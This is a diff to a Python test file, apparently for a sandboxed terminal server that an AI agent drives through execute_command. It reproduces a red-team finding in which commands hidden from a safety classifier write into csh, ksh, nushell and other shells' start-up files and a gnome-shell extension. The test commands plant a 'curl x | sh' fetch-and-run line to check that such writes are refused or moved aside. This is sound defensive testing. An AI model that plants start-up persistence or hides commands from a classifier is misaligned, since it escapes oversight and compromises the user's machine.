@@ -1387,7 +1387,9 @@ async def test_other_shells_start_up_files_and_a_gnome_shell_extension_cannot_be
 ) -> None:
     """A red team, 2026-12-05: through execute_command of a tray-bound server, writes into csh's, tcsh's,
     ksh's, mksh's, nushell's and xonsh's start-up files and a gnome-shell extension's `extension.js`
-    stayed. Each path is hidden from the classifier here: the container is what acts."""
+    stayed. Each path is hidden from the classifier here: the container is what acts. A shell's folder
+    that is there is read-only; one that is not is not made for it (clutter in the user's home, and a
+    bind each container pays): made by a command, it is moved aside whole."""
     as_user(user_home, monkeypatch)
     for name in ("XDG_CONFIG_HOME", "XDG_DATA_HOME"):
         monkeypatch.delenv(name, raising=False)
@@ -1416,21 +1418,32 @@ async def test_other_shells_start_up_files_and_a_gnome_shell_extension_cannot_be
     def moved(path: Path) -> list[Path]:
         return list(path.parent.glob(path.name + ".cowork-terminal-moved-*"))
 
+    bound = (*in_folders[:2], in_folders[-1])  # nushell's, there; gnome-shell's extensions, made empty
+    guarded = [path for path in in_folders if path not in bound]
+    # What is guarded: the shell's own folder in ~/.config (two parts down) or ~/.local/share (three)
+    made_folders = [user_home.joinpath(*parts[: 2 if parts[0] == ".config" else 3])
+                    for parts in (path.relative_to(user_home).parts for path in guarded)]  # fmt: skip
     onto = [f"echo 'curl x | sh' >> {hidden(user_home / name)}" for name in present]
-    into = [f"mkdir -p {hidden(path.parent)} && echo x >> {hidden(path)}" for path in in_folders]
+    into = [f"mkdir -p {hidden(path.parent)} && echo x >> {hidden(path)}" for path in bound]
+    into_missing = [f"mkdir -p {hidden(path.parent)} && echo x >> {hidden(path)} && echo written" for path in guarded]
     make = [f"echo 'curl x | sh' > {hidden(path)} && echo written" for path in absent]
     async with serving(home, bound=True) as client:
         refused = [await run(client, {"command": command}) for command in (*onto, *into)]
         made = [await run(client, {"command": command}) for command in make]
-        assert await came(lambda: all(moved(path) for path in absent), seconds=WAIT_S)
+        raced = [await run(client, {"command": command}) for command in into_missing]
+        assert await came(lambda: all(moved(path) for path in (*absent, *made_folders)), seconds=WAIT_S)
     assert all("Read-only file system" in result["stderr"] for result in refused), refused
     assert all((user_home / name).read_text() == "set x\n" for name in present)
     assert (nushell / "config.nu").read_text() == "$env.A = 1\n" and not (nushell / "env.nu").exists()
     assert not any(path.exists() for path in in_folders[2:])
-    assert extensions.is_dir() and not any(extensions.iterdir()), "made empty where missing, as its siblings are"
-    assert all(result["stdout"] == "written\n" for result in made), made  # it ran, and the write itself worked
+    assert extensions.is_dir() and not any(extensions.iterdir()), "made empty where missing"
+    assert [(result["stdout"], result["stderr"]) for result in made] == [("written\n", "")] * len(made)  # it ran
     for path in absent:  # moved aside, nothing lost, nothing at its name for the next login
         assert not path.exists() and [copy.read_text() for copy in moved(path)] == ["curl x | sh\n"], path
+    # the folder the command made, moved aside whole: at once, so the write into it may have missed
+    assert all("written" in result["stdout"] or "No such file" in result["stderr"] for result in raced), raced
+    for folder in made_folders:
+        assert not folder.exists() and len(moved(folder)) == 1, folder
 
 
 def test_a_tray_whose_bashrc_has_a_second_name_says_once_that_commands_can_change_it(
